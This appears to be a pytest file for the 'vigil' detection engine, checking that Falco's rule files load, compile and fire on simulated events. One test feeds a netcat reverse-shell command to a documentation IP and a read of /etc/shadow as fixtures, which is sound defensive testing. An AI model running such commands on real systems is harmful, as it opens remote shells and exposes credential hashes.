"""Falco's own rule files load unchanged; the committed compatibility report is current."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.fixtures import REPO
from tests.fixtures.rules_events import ev, run
from vigil.detect.rules import RuleEngine, compile_ruleset, load_rule_files
from vigil.detect.rules.compat import FALCO_FILES, falco_report, find_falco_dir, report_file
from vigil.models import EventType

FALCO = find_falco_dir(REPO)
pytestmark = pytest.mark.skipif(
    FALCO is None,
    reason="Falco's rule files not found in shared/data/falco above the checkout "
    "(set VIGIL_FALCO_RULES)",
)


def falco_dir() -> Path:
    assert FALCO is not None
    return FALCO


def test_stable_file_loads_and_compiles_completely() -> None:
    ruleset = load_rule_files([falco_dir() / "falco_rules.yaml"])
    compiled = compile_ruleset(ruleset)
    assert compiled.errors == ()
    assert len(ruleset.rules) == 25
    assert len(compiled.rules) == sum(r.enabled for r in ruleset.rules) == 25


@pytest.mark.parametrize("name", FALCO_FILES)
def test_every_file_loads_without_errors(name: str) -> None:
    report = report_file(falco_dir() / name)
    assert report.errors == ()
    assert report.compiled == report.rules
    assert report.evaluated > report.rules / 2


def test_falco_rules_fire_on_vigil_events() -> None:
    engine = RuleEngine(compile_ruleset(load_rule_files([falco_dir() / "falco_rules.yaml"])).rules)
    shadow = ev("open", exe="/bin/cat", path="/etc/shadow", op="read", parent="/bin/sh")
    assert "Read sensitive file untrusted" in {r.name for r in engine.match(shadow)}
    netcat = run("/usr/bin/nc -e /bin/sh 203.0.113.9 4444")
    assert "Netcat Remote Code Execution in Container" in {r.name for r in engine.match(netcat)}
    assert engine.candidates(EventType.EXEC) > 0 and engine.candidates(EventType.OPEN) > 0


def test_committed_report_matches_the_code() -> None:
    committed = (REPO / "docs" / "falco-compat.md").read_text(encoding="utf-8")
    assert falco_report(falco_dir()) == committed, (
        "run: vigil rules report --output docs/falco-compat.md"
    )
